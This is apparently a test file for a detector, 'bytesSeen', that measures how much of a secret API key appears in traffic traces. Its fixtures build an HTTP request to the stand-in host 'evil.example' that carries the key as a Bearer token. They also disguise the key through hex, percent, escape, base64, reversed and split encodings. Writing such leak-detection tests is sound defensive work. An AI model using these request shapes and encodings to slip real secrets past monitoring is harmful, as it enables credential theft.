import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { bytesSeen } from './traces.ts'

const key = 'k-Zr4vQ8nLx2Wm7Kp1Tb9Yc3Hd6Gf5Js0Ae'
const upTo = 'GET /v1/models HTTP/1.1\r\nhost: evil.example\r\nauthorization: Bearer '
const hex = Buffer.from(key).toString('hex')
const percent = hex.replace(/../g, '%$&')

describe('all of a key is seen', () => {
  it.each([
    ['as it is', key],
    ['in capitals', key.toUpperCase()],
    ['reversed', [...key].reverse().join('')],
    ['in hex', hex],
    ['in hex, in capitals', hex.toUpperCase()],
    ['in percents', percent],
    ['in percents, in capitals', percent.toUpperCase()],
    ['as escapes', hex.replace(/../g, '\\u00$&')],
    ['in two pieces', `${key.slice(0, 18)} and then\r\n${key.slice(18)}`],
    ['with a dot between any two', [...key].join('.')],
    ['over many lines', [...key].join('\r\n')],
  ])('%s', (_how, dressed) => {
    // a sign of its own may be lost between others
    expect(bytesSeen(`${upTo}${dressed}\r\n\r\n`, key)).toBeGreaterThanOrEqual(key.length - 3)
  })

  it.each(['', 'u', 'us', 'user:', 'Bearer '])('in base64, behind %j', before => {
    for (const encoding of ['base64', 'base64url'] as const) {
      const dressed = Buffer.from(before + key).toString(encoding)
      // the first and the last bytes share a group with what is beside them
      expect(bytesSeen(`${upTo}${dressed}`, key)).toBeGreaterThanOrEqual(key.length - 4)
    }
  })
})

describe('of a key', () => {
  it('ten characters in a row are seen, and nine are not', () => {
    expect(bytesSeen(`x ${key.slice(5, 15)} y`, key)).toBe(10)
    expect(bytesSeen(`x ${key.slice(5, 14)} y`, key)).toBe(0)
  })

  it('nothing is seen where it is not', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2_000 }), text => {
        expect(bytesSeen(text, key)).toBe(0)
      }),
      { numRuns: 50 },
    )
  })
})
